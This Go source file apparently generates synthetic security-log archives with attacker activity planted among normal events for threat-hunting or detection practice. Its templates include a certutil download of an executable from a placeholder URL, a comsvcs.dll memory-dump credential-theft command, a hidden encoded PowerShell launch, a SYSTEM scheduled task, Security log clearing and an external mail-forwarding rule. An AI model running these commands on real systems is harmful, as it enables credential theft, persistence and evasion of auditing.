package archivegen

// source is one kind of log.
type source struct {
	name   string // of its file
	share  int    // of 100 events
	plants string // the kind of indicators that its first form can name
	forms  []form
}

func sources() []source {
	return []source{
		{name: "sysmon.jsonl", share: 34, plants: "sha256", forms: sysmon()},
		{name: "security.jsonl", share: 20, forms: security()},
		{name: "conn.log", share: 16, plants: "ip", forms: zeekConn()},
		{name: "dns.log", share: 12, plants: "domain", forms: zeekDNS()},
		{name: "ssl.log", share: 6, forms: zeekSSL()},
		{name: "access.log", share: 8, plants: "url", forms: proxy()},
		{name: "audit.jsonl", share: 4, forms: office()},
	}
}

const (
	sysmonHead = `{{"@timestamp":"{time}","Channel":"Microsoft-Windows-Sysmon/Operational","SourceName":"Microsoft-Windows-Sysmon","Hostname":"{host}.corp.example","RecordNumber":{record},"UtcTime":"{utc}",`
	aProcess   = `"ProcessGuid":"{{{guid}}","ProcessId":"{pid}","Image":"{image}",`
	aStart     = `"EventID":1,"ProcessGuid":"{{{guid}}","ProcessId":"{pid}",`
	aParent    = `"ParentProcessGuid":"{{{parentguid}}","ParentProcessId":"{parentpid}","ParentImage":"{parent}","User":"CORP\\{user}","IntegrityLevel":"Medium"}`
)

func sysmon() []form {
	attack := func(image, command string) form {
		return compile(1, sysmonHead+aStart+`"Image":"`+image+`","CommandLine":"`+command+`","CurrentDirectory":"C:\\Users\\{user}\\","Hashes":"SHA256={sha256}",`+aParent)
	}
	const system = `C:\\Windows\\System32\\`
	return []form{
		compile(1800, sysmonHead+aStart+`"Image":"{image}","CommandLine":"{cmd}","CurrentDirectory":"C:\\Windows\\system32\\","Hashes":"SHA256={sha256}",`+aParent),
		compile(2400, sysmonHead+`"EventID":3,`+aProcess+`"User":"CORP\\{user}","Protocol":"tcp","Initiated":"true","SourceIp":"{ip}","SourcePort":"{port}","DestinationIp":"{out}","DestinationPort":"{443|443|443|80}"}`),
		compile(3600, sysmonHead+`"EventID":7,`+aProcess+`"ImageLoaded":"{library}","Signed":"true","Signature":"{Microsoft Windows|Microsoft Corporation}","SignatureStatus":"Valid"}`),
		compile(3000, sysmonHead+`"EventID":10,"SourceProcessGUID":"{{{parentguid}}","SourceProcessId":"{parentpid}","SourceImage":"{other}","TargetProcessGUID":"{{{guid}}","TargetProcessId":"{pid}","TargetImage":"{image}","GrantedAccess":"{0x1000|0x1000|0x1400|0x3000|0x40}","CallTrace":"C:\\Windows\\SYSTEM32\\ntdll.dll+{hex:5}|C:\\Windows\\System32\\KERNELBASE.dll+{hex:4}"}`),
		compile(1400, sysmonHead+`"EventID":11,`+aProcess+`"TargetFilename":"C:\\Users\\{user}\\AppData\\Local\\Temp\\{word}{hex:6}.tmp","CreationUtcTime":"{utc}"}`),
		compile(2200, sysmonHead+`"EventID":13,"EventType":"SetValue",`+aProcess+`"TargetObject":"HKU\\{sid}\\Software\\{word}\\{word}\\Value{n:900}","Details":"DWORD (0x0000{hex:4})"}`),
		compile(1900, sysmonHead+`"EventID":22,`+aProcess+`"QueryName":"{site}","QueryStatus":"0","QueryResults":"::ffff:{out};"}`),
		attack(system+`whoami.exe`, `whoami /all`),
		attack(system+`net.exe`, `net group \"Domain Admins\" /domain`),
		attack(system+`certutil.exe`, `certutil -urlcache -split -f {url} C:\\Users\\Public\\{word}.exe`),
		attack(system+`rundll32.exe`, `rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump {n:900} C:\\Users\\Public\\{word}.dmp full`),
		attack(system+`WindowsPowerShell\\v1.0\\powershell.exe`, `powershell -nop -w hidden -enc JAB{hex:40}`),
		attack(system+`schtasks.exe`, `schtasks /create /sc minute /mo 5 /tn {word} /tr C:\\Users\\Public\\{word}.exe /ru SYSTEM`),
		attack(system+`nltest.exe`, `nltest /domain_trusts`),
		attack(system+`wevtutil.exe`, `wevtutil cl Security`),
	}
}

const securityHead = `{{"@timestamp":"{time}","Channel":"Security","SourceName":"Microsoft-Windows-Security-Auditing","Hostname":"{host}.corp.example","RecordNumber":{record},`

func security() []form {
	return []form{
		compile(3000, securityHead+`"EventID":4624,"SubjectUserSid":"S-1-5-18","SubjectUserName":"{host}$","SubjectDomainName":"CORP","TargetUserSid":"{sid}","TargetUserName":"{user}","TargetDomainName":"CORP","TargetLogonId":"{handle:900000000}","LogonType":"{3|3|3|3|2|5|7|10}","LogonProcessName":"Kerberos","AuthenticationPackageName":"Kerberos","WorkstationName":"-","IpAddress":"{ip}","IpPort":"{port}","ProcessName":"-"}`),
		compile(3000, securityHead+`"EventID":4634,"TargetUserSid":"{sid}","TargetUserName":"{user}","TargetDomainName":"CORP","TargetLogonId":"{handle:900000000}","LogonType":"3"}`),
		compile(3400, securityHead+`"EventID":4688,"SubjectUserSid":"{sid}","SubjectUserName":"{user}","SubjectDomainName":"CORP","SubjectLogonId":"{handle:900000}","NewProcessId":"{pidhex}","NewProcessName":"{image}","CommandLine":"{cmd}","TokenElevationType":"%%1938","ParentProcessName":"{parent}"}`),
		compile(2300, securityHead+`"EventID":5156,"ProcessId":"{pid}","Application":"\\device\\harddiskvolume2\\{word}\\{word}.exe","Direction":"%%14593","SourceAddress":"{ip}","SourcePort":"{port}","DestAddress":"{out}","DestPort":"443","Protocol":"6"}`),
		compile(1500, securityHead+`"EventID":4672,"SubjectUserSid":"{sid}","SubjectUserName":"{user}","SubjectDomainName":"CORP","SubjectLogonId":"{handle:900000}","PrivilegeList":"SeSecurityPrivilege\n\t\t\tSeBackupPrivilege\n\t\t\tSeRestorePrivilege"}`),
		compile(1200, securityHead+`"EventID":4663,"SubjectUserSid":"{sid}","SubjectUserName":"{user}","SubjectDomainName":"CORP","SubjectLogonId":"{handle:900000}","ObjectServer":"Security","ObjectType":"File","ObjectName":"D:\\Shares\\{word}\\{word}{n:50}.xlsx","HandleId":"{handle:90000}","AccessMask":"0x1","ProcessId":"{pidhex}","ProcessName":"{image}"}`),
		compile(1500, securityHead+`"EventID":4769,"TargetUserName":"{user}@CORP.EXAMPLE","TargetDomainName":"CORP.EXAMPLE","ServiceName":"{host}$","ServiceSid":"{sid}","TicketOptions":"0x40810000","TicketEncryptionType":"0x12","IpAddress":"::ffff:{ip}","IpPort":"{port}","Status":"0x0"}`),
		compile(480, securityHead+`"EventID":4625,"TargetUserName":"{user}","TargetDomainName":"CORP","Status":"0xc000006d","SubStatus":"{0xc000006a|0xc0000064}","LogonType":"3","IpAddress":"{ip}","IpPort":"{port}"}`),
		compile(1, securityHead+`"EventID":4720,"TargetUserName":"{word}","TargetDomainName":"CORP","SubjectUserSid":"{sid}","SubjectUserName":"{user}","SubjectDomainName":"CORP","SamAccountName":"{word}"}`),
		compile(1, securityHead+`"EventID":1102,"SubjectUserSid":"{sid}","SubjectUserName":"{user}","SubjectDomainName":"CORP"}`),
	}
}

func zeekConn() []form {
	const head = `{{"ts":{epoch},"uid":"C{hex:16}","id.orig_h":"{ip}","id.orig_p":{port},`
	return []form{
		compile(9000, head+`"id.resp_h":"{out}","id.resp_p":443,"proto":"tcp","service":"ssl","duration":{n:60}.{n:999999},"orig_bytes":{n:9000},"resp_bytes":{n:900000},"conn_state":"{SF|SF|SF|S1|RSTO}","missed_bytes":0,"history":"{ShADadFf|ShADadfF|ShADad|ShADadR}","orig_pkts":{n:90},"orig_ip_bytes":{n:12000},"resp_pkts":{n:900},"resp_ip_bytes":{n:990000}}`),
		compile(5000, head+`"id.resp_h":"10.20.0.1","id.resp_p":53,"proto":"udp","service":"dns","duration":0.{n:99999},"orig_bytes":{n:90},"resp_bytes":{n:400},"conn_state":"SF","missed_bytes":0,"history":"Dd","orig_pkts":1,"orig_ip_bytes":{n:120},"resp_pkts":1,"resp_ip_bytes":{n:430}}`),
		compile(2300, head+`"id.resp_h":"{inside}","id.resp_p":{445|445|88|389|135},"proto":"tcp","conn_state":"{SF|S0|REJ}","missed_bytes":0,"history":"{ShADadFf|S|Sr}","orig_pkts":{n:50},"orig_ip_bytes":{n:5000},"resp_pkts":{n:50},"resp_ip_bytes":{n:9000}}`),
	}
}

func zeekDNS() []form {
	const head = `{{"ts":{epoch},"uid":"C{hex:16}","id.orig_h":"{ip}","id.orig_p":{port},"id.resp_h":"10.20.0.1","id.resp_p":53,"proto":"udp","trans_id":{n:65536},`
	return []form{
		compile(13000, head+`"query":"{site}","qclass_name":"C_INTERNET","qtype_name":"{A|A|A|AAAA|HTTPS}","rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["{out}"],"TTLs":[{n:3600}.0],"rejected":false}`),
		compile(2000, head+`"query":"e{hex:6}.{site}","qclass_name":"C_INTERNET","qtype_name":"A","rcode_name":"NOERROR","AA":false,"TC":false,"RD":true,"RA":true,"Z":0,"answers":["{site}","{out}"],"TTLs":[{n:3600}.0,{n:60}.0],"rejected":false}`),
		compile(1384, head+`"query":"{word}.corp.example","qclass_name":"C_INTERNET","qtype_name":"A","rcode_name":"NXDOMAIN","AA":true,"TC":false,"RD":true,"RA":true,"Z":0,"rejected":false}`),
	}
}

func zeekSSL() []form {
	return []form{compile(16384, `{{"ts":{epoch},"uid":"C{hex:16}","id.orig_h":"{ip}","id.orig_p":{port},"id.resp_h":"{out}","id.resp_p":443,"version":"{TLSv13|TLSv13|TLSv12}","cipher":"{TLS_AES_128_GCM_SHA256|TLS_AES_256_GCM_SHA384}","curve":"x25519","server_name":"{site}","resumed":{true|false},"established":true}`)}
}

func proxy() []form {
	return []form{
		compile(9000, `{epochms} {n:900} {ip} TCP_MISS/{200|200|200|304|404} {n:99999} GET {url} {user} HIER_DIRECT/{out} {text/html|image/png|application/json}`),
		compile(7384, `{epochms} {n:90000} {ip} TCP_TUNNEL/200 {n:999999} CONNECT {site}:443 {user} HIER_DIRECT/{out} -`),
	}
}

func office() []form {
	const head = `{{"CreationTime":"{second}","Id":"{hex:8}-{hex:4}-4{hex:3}-8{hex:3}-{hex:12}","OrganizationId":"5b0e8b3c-0000-4000-8000-0123456789ab","UserId":"{user}@corp.example","UserType":0,"ResultStatus":"Succeeded",`
	return []form{
		compile(6000, head+`"Operation":"UserLoggedIn","RecordType":15,"Workload":"AzureActiveDirectory","ClientIP":"{out}","ActorIpAddress":"{out}","ApplicationId":"00000002-0000-0ff1-ce00-000000000000"}`),
		compile(6000, head+`"Operation":"MailItemsAccessed","RecordType":50,"Workload":"Exchange","ClientIPAddress":"{out}","ClientInfoString":"Client=OWA;Action=ViaProxy","MailboxOwnerUPN":"{user}@corp.example","SessionId":"{hex:8}-{hex:4}-4{hex:3}-8{hex:3}-{hex:12}"}`),
		compile(4383, head+`"Operation":"{FileAccessed|FileModified|FileDownloaded}","RecordType":6,"Workload":"SharePoint","ClientIP":"{out}","UserAgent":"{agent}","ObjectId":"https://corp.example/sites/{word}/{word}{n:300}.docx","SourceFileExtension":"docx"}`),
		compile(1, head+`"Operation":"New-InboxRule","RecordType":1,"Workload":"Exchange","ClientIP":"{out}","ObjectId":"{user}","Parameters":[{{"Name":"ForwardTo","Value":"{word}@{site}"},{{"Name":"Name","Value":"."}]}`),
	}
}
